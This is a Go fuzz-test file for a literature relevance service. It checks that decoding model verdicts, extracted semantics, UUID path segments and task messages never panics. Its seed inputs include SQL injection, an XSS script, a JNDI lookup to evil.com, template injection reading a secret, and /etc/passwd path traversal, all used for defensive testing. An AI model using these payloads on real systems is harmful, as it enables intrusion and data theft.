// Package security provides fuzz tests for the relevance service's input
// handling. The primary invariant is that no input should cause a panic in
// JSON parsing, UUID path parsing, or scoring-output decoding.
package security

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/uuid"

	"github.com/litscreen/relevance-service/internal/domain"
)

// FuzzScoringVerdict tests that arbitrary model output decoded as a relevance
// verdict never causes a panic. This exercises the same unmarshal path the
// scoring client uses before any repair round-trip, with hostile payloads a
// misbehaving model (or a prompt-injected article abstract) could produce.
func FuzzScoringVerdict(f *testing.F) {
	seeds := []string{
		// Valid verdicts
		`{"question":"q","relevance_score":0.9,"contribution_score":0.1,"is_relevant":true,"is_contributing":false,"relevance_reason":"r","contribution_reason":"c"}`,
		`{"relevance_score":1,"contribution_score":0}`,
		`{}`,

		// Type confusion
		`{"relevance_score":"0.9"}`,
		`{"relevance_score":true}`,
		`{"relevance_score":[0.9]}`,
		`{"is_relevant":"yes"}`,
		`{"question":123}`,

		// Out-of-range and special numbers
		`{"relevance_score":1e308,"contribution_score":-1e308}`,
		`{"relevance_score":1e999}`,
		`{"relevance_score":-0.0}`,

		// Injection payloads inside reason fields
		`{"relevance_reason":"'; DROP TABLE article_relevances; --"}`,
		`{"relevance_reason":"<script>alert('xss')</script>"}`,
		`{"relevance_reason":"${jndi:ldap://evil.com/a}"}`,
		`{"relevance_reason":"{{.Env.SECRET}}"}`,

		// Markdown fences and prose a model might wrap JSON in
		"```json\n{\"relevance_score\":0.9}\n```",
		`Sure! Here is the verdict: {"relevance_score":0.9}`,

		// Unicode edge cases: zero-width space, byte order mark, replacement
		// character. The BOM must stay escaped; a literal one is only legal
		// at the start of a file.
		"{\"question\":\"\\u200b\\ufeff\\ufffd\"}",
		`{"question":"‮right-to-left‬"}`,
		"{\"question\":\"" + string([]byte{0xfe, 0xff}) + "\"}",

		// Structural abuse
		`not json at all`,
		`{"question":` + strings.Repeat(`[`, 1000) + strings.Repeat(`]`, 1000) + `}`,
		`{"question":"` + strings.Repeat("a", 100000) + `"}`,
		`[]`,
		`null`,
		`""`,
	}

	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, content string) {
		// Invariant 1: Unmarshal must never panic regardless of input.
		var verdict domain.Relevance
		if err := json.Unmarshal([]byte(content), &verdict); err != nil {
			// Decode failure is acceptable; a panic is not.
			return
		}

		// Invariant 2: Threshold enforcement must never panic and must
		// override whatever booleans the payload claimed.
		verdict.ApplyThreshold()
		if verdict.RelevanceScore <= domain.RelevanceThreshold && verdict.IsRelevant {
			t.Errorf("threshold not enforced: score=%v is_relevant=%v", verdict.RelevanceScore, verdict.IsRelevant)
		}

		// Invariant 3: A decoded verdict must re-encode cleanly.
		if _, err := json.Marshal(verdict); err != nil {
			t.Errorf("re-encode of decoded verdict failed: %v", err)
		}
	})
}

// FuzzKeySemantics tests that arbitrary model output decoded as extracted
// semantics never panics, and that flattening the result into per-article
// rows preserves counts and ordering invariants.
func FuzzKeySemantics(f *testing.F) {
	f.Add(`{"topics":["t"],"entities":["e"],"keywords":["k"]}`)
	f.Add(`{"topics":null,"entities":[],"keywords":["k1","k2"]}`)
	f.Add(`{"topics":"not an array"}`)
	f.Add(`{"topics":[1,2,3]}`)
	f.Add(`{"topics":[` + strings.Repeat(`"x",`, 5000) + `"x"]}`)
	f.Add(`{"topics":["` + strings.Repeat("é", 5000) + `"]}`)
	f.Add(`{"keywords":["../../etc/passwd","' OR 1=1"]}`)
	f.Add(`not json`)

	f.Fuzz(func(t *testing.T, content string) {
		var semantics domain.KeySemantics
		if err := json.Unmarshal([]byte(content), &semantics); err != nil {
			return
		}

		rows := semantics.Flatten(uuid.New())
		want := len(semantics.Topics) + len(semantics.Entities) + len(semantics.Keywords)
		if len(rows) != want {
			t.Errorf("flatten dropped rows: got %d want %d", len(rows), want)
		}
		for i, row := range rows {
			if row.SemanticIndex != i {
				t.Errorf("semantic index not sequential at %d: got %d", i, row.SemanticIndex)
			}
		}
	})
}

// FuzzPathIdentifier tests that arbitrary path segments used as project and
// job identifiers never panic during parsing. Parse failures must be clean
// errors because the HTTP layer maps them straight to 400 responses.
func FuzzPathIdentifier(f *testing.F) {
	seeds := []string{
		"0198c6a0-6f5e-7000-8000-000000000000",
		"00000000-0000-0000-0000-000000000000",
		"not-a-uuid",
		"",
		" ",
		"0198c6a0-6f5e-7000-8000-00000000000", // one digit short
		"0198c6a06f5e70008000000000000000",     // no hyphens
		"{0198c6a0-6f5e-7000-8000-000000000000}",
		"urn:uuid:0198c6a0-6f5e-7000-8000-000000000000",
		"'; DROP TABLE projects; --",
		"../../etc/passwd",
		"%00",
		"\x00\x01\x02",
		strings.Repeat("a", 100000),
		"\U0001F4A9",
	}
	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, segment string) {
		id, err := uuid.Parse(segment)
		if err != nil {
			return
		}

		// Invariant: a parsed identifier must survive a string round-trip
		// for canonical input, and its string form is always valid UTF-8.
		s := id.String()
		if !utf8.ValidString(s) {
			t.Errorf("uuid string form is not valid UTF-8: %q", s)
		}
		if reparsed, err := uuid.Parse(s); err != nil || reparsed != id {
			t.Errorf("uuid round-trip mismatch: %q -> %q (err=%v)", segment, s, err)
		}
	})
}

// FuzzTaskMessage tests that arbitrary bytes decoded as a queued task message
// never cause a panic. Task payloads cross a process boundary through
// Temporal, so the decoder must tolerate any bytes.
func FuzzTaskMessage(f *testing.F) {
	f.Add([]byte(`{"type":"execution","job_id":"0198c6a0-6f5e-7000-8000-000000000000","questions":[{"question":"q","combined_definitions":["d"]}]}`))
	f.Add([]byte(`{"type":"nonsense"}`))
	f.Add([]byte(`{"job_id":"not-a-uuid"}`))
	f.Add([]byte(`{"questions":{}}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})

	f.Fuzz(func(t *testing.T, data []byte) {
		var task domain.TaskMessage
		if err := json.Unmarshal(data, &task); err != nil {
			return
		}

		// Type validation on a decoded message must never panic.
		switch task.Type {
		case domain.TaskTypePreprocessing, domain.TaskTypeExecution, domain.TaskTypeFinalization:
		default:
			_ = domain.NewInvalidTaskTypeError(task.Type)
		}
	})
}
